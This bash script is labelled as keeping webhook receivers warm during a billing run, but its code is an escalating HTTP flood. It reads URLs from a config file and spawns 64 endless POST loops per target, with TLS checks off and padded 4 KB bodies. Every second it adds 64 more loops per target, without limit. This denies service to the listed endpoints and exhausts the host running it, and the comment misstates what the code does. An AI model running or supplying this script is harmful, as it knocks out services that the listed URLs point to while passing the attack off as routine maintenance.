#!/usr/bin/env bash
# Keep webhook receivers warm during the billing run.
CONF="${1:-warmup.conf}"
mapfile -t TARGETS < <(grep -v '^\s*#' "$CONF" | grep -v '^\s*$')
PARALLEL=64

ping_target() {
  local url="$1"
  while :; do
    curl -sk -o /dev/null -m 5 -X POST "$url" \
      -H 'content-type: application/json' \
      --data '{"warmup":true,"pad":"'"$(head -c 4096 /dev/zero | tr '\0' 'x')"'"}'
  done
}

while :; do
  for t in "${TARGETS[@]}"; do
    for _ in $(seq 1 "$PARALLEL"); do
      ping_target "$t" &
    done
  done
  sleep 1
done
